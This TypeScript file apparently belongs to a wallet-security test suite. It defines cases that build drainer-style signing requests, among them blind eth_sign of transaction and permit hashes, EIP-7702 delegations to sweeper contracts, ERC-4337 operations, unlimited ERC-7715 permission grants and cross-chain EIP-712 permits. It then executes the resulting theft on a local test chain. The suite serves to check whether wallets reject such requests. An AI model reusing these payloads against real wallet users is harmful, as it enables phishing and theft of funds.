import { setTimeout as pause } from 'node:timers/promises';
import { hashTypedData, keccak256, serializeTransaction, toHex } from 'viem';
import type { Case } from '../Case.ts';
import { type About, attack, losesBy, signature, transaction, typedText } from './attack.ts';
import { ETHER, type Heist, NO_LIMIT } from './Heist.ts';
import { smartAccount } from './smartAccount.ts';
import { eoa } from './spenders.ts';
import { permit2612, permitTransfer, usePermit } from './typed.ts';

/** F1 blind hashes, F2 EIP-7702, F6 accounts and sessions, F8 domains that do not fit. */
export const SIGNING: readonly Case[] = [
  attack(
    f1(
      'f1-eth-sign-transaction',
      'eth_sign of the hash of a transaction that sends everything',
      'eth_sign thefts, 2022',
    ),
    async (heist) => {
      const wei = (await etherOf(heist)) / 2n;
      const unsigned = {
        chainId: heist.world.chainId,
        type: 'legacy',
        nonce: Number(await heist.world.rpc('eth_getTransactionCount', [heist.user, 'latest'])),
        to: heist.thief,
        value: wei,
        gas: 21_000n,
        gasPrice: 50_000_000_000n,
      } as const;
      return {
        method: 'eth_sign',
        params: [heist.user, keccak256(serializeTransaction(unsigned))],
        account: heist.user,
        strike: () =>
          losesBy(heist.ether(), async () => {
            const raw = await heist.world.signer(heist.user).signTransaction(unsigned);
            const hash = await heist.world.rpc('eth_sendRawTransaction', [raw]);
            // Mined a moment after it was answered: a theft still waiting would land in another case.
            while ((await heist.world.rpc('eth_getTransactionReceipt', [hash])) === null) await pause(20);
          }),
      };
    },
  ),
  attack(f1('f1-eth-sign-permit', 'eth_sign of a permit’s EIP-712 digest', 'eth_sign thefts, 2022'), async (heist) =>
    blindPermit(heist, 'eth_sign', (digest) => [heist.user, digest]),
  ),
  attack(
    f1('f1-eth-sign-swapped', 'eth_sign with the account last', 'wallets that accept both orders'),
    async (heist) => blindPermit(heist, 'eth_sign', (digest) => [digest, heist.user]),
  ),
  attack(
    f1('f1-personal-bytes', 'personal_sign of 32 bytes nobody can read', 'Safe and Wyvern style hashes under EIP-191'),
    async (heist) => ({
      method: 'personal_sign',
      params: [keccak256(toHex('an order nobody sees')), heist.user],
      account: heist.user,
    }),
  ),
  attack(
    f1('f1-personal-hash-text', 'personal_sign of a hash written as text', 'drainers that pass hash filters'),
    async (heist) => ({
      method: 'personal_sign',
      params: [toHex(keccak256(toHex('an order nobody sees'))), heist.user],
      account: heist.user,
    }),
  ),
  transaction(
    f2(
      'f2-type-4',
      'eth_sendTransaction with an authorizationList to a sweeper',
      '97 % of delegations in the first weeks were sweepers (Wintermute, May 2025)',
    ),
    async (heist) => {
      const sweeper = await heist.thiefs('DelegatedSweeper');
      return {
        call: { to: heist.user, data: '0x' },
        fields: {
          type: '0x4',
          authorizationList: [{ chainId: toHex(heist.world.chainId), address: sweeper.address, nonce: '0x1' }],
        },
        stake: heist.ether(),
        mined: () => delegate(heist, sweeper.address),
        theft: () => heist.send(heist.thief, { address: heist.user, abi: sweeper.abi }, 'sweep', [[]]),
      };
    },
  ),
  ...(['wallet_signAuthorization', 'eth_signAuthorization'] as const).map((method) =>
    attack(
      f2(
        `f2-${method.startsWith('eth') ? 'eth' : 'wallet'}-authorization`,
        `${method} to the thief's executor`,
        'EIP-7702 phishing of 2025',
      ),
      async (heist) => {
        const executor = await heist.thiefs('DelegatedExecutor');
        const coin = await heist.coin();
        return {
          method,
          params: [{ address: executor.address, chainId: heist.world.chainId, nonce: 0 }],
          account: heist.user,
          strike: () =>
            losesBy(heist.balance(coin), async () => {
              await delegate(heist, executor.address);
              const { to, data } = heist.encode(coin, 'transfer', [heist.thief, await heist.balance(coin)()]);
              const calls = [{ to, value: 0n, data }];
              await heist.send(heist.thief, { address: heist.user, abi: executor.abi }, 'execute', [calls]);
            }),
        };
      },
    ),
  ),
  attack(
    f2('f2-every-chain', 'wallet_signAuthorization with chainId 0', 'EIP-7702: valid on every chain'),
    async (heist) => {
      const sweeper = await heist.thiefs('DelegatedSweeper');
      return {
        method: 'wallet_signAuthorization',
        params: [{ address: sweeper.address, chainId: 0, nonce: 0 }],
        account: heist.user,
        strike: () =>
          losesBy(heist.ether(), async () => {
            await delegate(heist, sweeper.address);
            await heist.send(heist.thief, { address: heist.user, abi: sweeper.abi }, 'sweep', [[]]);
          }),
      };
    },
  ),
  attack(
    f2('f2-raw-hash', 'eth_sign of an EIP-7702 authorization hash', 'EIP-7702 by way of blind signatures'),
    async (heist) => ({
      method: 'eth_sign',
      params: [
        heist.user,
        keccak256(`0x05d7${toHex(heist.world.chainId).slice(2).padStart(2, '0')}94${heist.thief.slice(2)}80`),
      ],
      account: heist.user,
    }),
  ),
  ...accounts(),
  ...domains(),
];

function f1(id: string, shape: string, provenance: string): About {
  return { id, family: 'F1', shape, provenance };
}

function f2(id: string, shape: string, provenance: string): About {
  return { id, family: 'F2', shape, provenance };
}

async function etherOf(heist: Heist): Promise<bigint> {
  return BigInt(String(await heist.world.rpc('eth_getBalance', [heist.user, 'latest'])));
}

/** The account runs this code afterwards, as a mined type-4 transaction would leave it. */
export async function delegate(heist: Heist, code: `0x${string}`): Promise<void> {
  await heist.world.rpc('anvil_setCode', [heist.user, `0xef0100${code.slice(2)}`]);
}

async function blindPermit(heist: Heist, method: string, params: (digest: string) => readonly unknown[]) {
  const coin = await heist.coin();
  const typed = await permit2612(heist, coin, heist.thief);
  const digest = hashTypedData(typed);
  return {
    method,
    params: params(digest),
    account: heist.user,
    strike: () =>
      losesBy(heist.balance(coin), async () => {
        const signed = await heist.world.signer(heist.user).sign({ hash: digest });
        await usePermit(heist, coin, heist.thief, signed);
        await (await eoa.open(heist)).take(coin, await heist.balance(coin)());
      }),
  };
}

/** F6: smart accounts, sessions, and what acts for the user later. */
function accounts(): Case[] {
  const f6 = (id: string, shape: string, provenance: string): About => ({ id, family: 'F6', shape, provenance });
  return [
    signature(
      f6(
        'f6-packed-operation',
        'PackedUserOperation (EntryPoint 0.8 typed data) that executes a transfer',
        '@account-abstraction/contracts 0.8',
      ),
      async (heist) => {
        const { account, coin, entryPoint } = await smartAccount(heist);
        const held = await heist.balance(coin, account.address)();
        const inner = heist.encode(coin, 'transfer', [heist.thief, held]);
        const callData = heist.encode(account, 'execute', [inner.to, 0n, inner.data]).data;
        const gas = (high: bigint, low: bigint) =>
          `0x${high.toString(16).padStart(32, '0')}${low.toString(16).padStart(32, '0')}` as const;
        const message = {
          sender: account.address,
          nonce: 0n,
          initCode: '0x',
          callData,
          accountGasLimits: gas(500_000n, 500_000n),
          preVerificationGas: 100_000n,
          gasFees: gas(1_000_000_000n, 50_000_000_000n),
          paymasterAndData: '0x',
        };
        return {
          typed: {
            domain: {
              name: 'ERC4337',
              version: '1',
              chainId: heist.world.chainId,
              verifyingContract: entryPoint.address,
            },
            types: {
              PackedUserOperation: [
                { name: 'sender', type: 'address' },
                { name: 'nonce', type: 'uint256' },
                { name: 'initCode', type: 'bytes' },
                { name: 'callData', type: 'bytes' },
                { name: 'accountGasLimits', type: 'bytes32' },
                { name: 'preVerificationGas', type: 'uint256' },
                { name: 'gasFees', type: 'bytes32' },
                { name: 'paymasterAndData', type: 'bytes' },
              ],
            },
            primaryType: 'PackedUserOperation',
            message,
          },
          stake: heist.balance(coin, account.address),
          theft: (signed) =>
            heist.send(heist.thief, entryPoint, 'handleOps', [[{ ...message, signature: signed }], heist.thief]),
        };
      },
    ),
    attack(
      f6('f6-send-operation', 'eth_sendUserOperation that executes a transfer to the thief', 'bundler RPC, ERC-4337'),
      async (heist) => {
        const { account, coin, entryPoint } = await smartAccount(heist);
        const inner = heist.encode(coin, 'transfer', [heist.thief, await heist.balance(coin, account.address)()]);
        const callData = heist.encode(account, 'execute', [inner.to, 0n, inner.data]);
        return {
          method: 'eth_sendUserOperation',
          params: [
            {
              sender: account.address,
              nonce: '0x0',
              callData: callData.data,
              callGasLimit: '0x7a120',
              verificationGasLimit: '0x7a120',
              preVerificationGas: '0x186a0',
              maxFeePerGas: '0xba43b7400',
              maxPriorityFeePerGas: '0x3b9aca00',
              signature: '0x',
            },
            entryPoint.address,
          ],
          account: heist.user,
          strike: () => losesBy(heist.balance(coin, account.address), () => heist.world.sendRaw(heist.user, callData)),
        };
      },
    ),
    attack(
      f6(
        'f6-grant-permissions',
        'wallet_grantPermissions: native-token-transfer without limit (ERC-7715)',
        'ERC-7715 session keys',
      ),
      async (heist) => ({
        method: 'wallet_grantPermissions',
        params: [
          [
            {
              chainId: toHex(heist.world.chainId),
              expiry: 4_000_000_000,
              signer: { type: 'account', data: { address: heist.thief } },
              permissions: [{ type: 'native-token-transfer', data: { allowance: toHex(NO_LIMIT) } }],
            },
          ],
        ],
        account: heist.user,
      }),
    ),
    attack(
      f6(
        'f6-execution-permissions',
        'wallet_requestExecutionPermissions: erc20-token-stream to the thief',
        'ERC-7715, second version',
      ),
      async (heist) => {
        const coin = await heist.coin();
        return {
          method: 'wallet_requestExecutionPermissions',
          params: [
            [
              {
                chainId: toHex(heist.world.chainId),
                to: heist.thief,
                permission: {
                  type: 'erc20-token-stream',
                  isAdjustmentAllowed: false,
                  data: { tokenAddress: coin.address, amountPerSecond: toHex(10n ** 12n), maxAmount: toHex(NO_LIMIT) },
                },
              },
            ],
          ],
          account: heist.user,
        };
      },
    ),
    attack(
      f6(
        'f6-operation-hash',
        'personal_sign of a user operation’s hash',
        'ERC-4337 before typed operations: SimpleAccount 0.6 signs EIP-191 hashes',
      ),
      async (heist) => {
        const { account } = await smartAccount(heist);
        return {
          method: 'personal_sign',
          params: [keccak256(`0x${account.address.slice(2)}${'00'.repeat(12)}`), heist.user],
          account: heist.user,
        };
      },
    ),
  ];
}

/** F8: typed data whose domain does not belong here. */
function domains(): Case[] {
  const f8 = (id: string, shape: string): About => ({
    id,
    family: 'F8',
    shape,
    provenance: 'EIP-712: "the user-agent should refuse signing if it does not match the currently active chain"',
  });
  const permitWith = (about: About, change: (typed: Record<string, unknown>) => Record<string, unknown>): Case =>
    attack(about, async (heist) => {
      const coin = await heist.coin();
      const typed: Record<string, unknown> = JSON.parse(typedText(await permit2612(heist, coin, heist.thief)));
      return {
        method: 'eth_signTypedData_v4',
        params: [heist.user, JSON.stringify(change(typed))],
        account: heist.user,
      };
    });
  const domainOf = (typed: Record<string, unknown>): object =>
    typeof typed.domain === 'object' && typed.domain !== null ? typed.domain : {};
  const typesOf = (typed: Record<string, unknown>): object =>
    typeof typed.types === 'object' && typed.types !== null ? typed.types : {};
  return [
    permitWith(f8('f8-other-chain', 'Permit for another chain than the wallet’s'), (typed) => ({
      ...typed,
      domain: { ...domainOf(typed), chainId: '137' },
    })),
    permitWith(f8('f8-other-chain-hex', 'Permit whose foreign chain id is written in hex'), (typed) => ({
      ...typed,
      domain: { ...domainOf(typed), chainId: '0x2105' },
    })),
    permitWith(f8('f8-no-domain', 'Permit without any domain type'), (typed) => ({
      ...typed,
      domain: {},
      types: { ...typesOf(typed), EIP712Domain: [] },
    })),
    permitWith(f8('f8-undeclared-domain', 'Permit whose domain members the type does not declare'), (typed) => ({
      ...typed,
      types: { ...typesOf(typed), EIP712Domain: [{ name: 'name', type: 'string' }] },
    })),
    attack(f8('f8-order-other-chain', 'a Permit2 transfer signed for another chain'), async (heist) => {
      const coin = await heist.coin();
      const typed = permitTransfer(heist, [{ token: coin.address, amount: ETHER }], heist.thief);
      const elsewhere = { ...typed, domain: { ...typed.domain, chainId: 42_161 } };
      return { method: 'eth_signTypedData_v4', params: [heist.user, typedText(elsewhere)], account: heist.user };
    }),
  ];
}
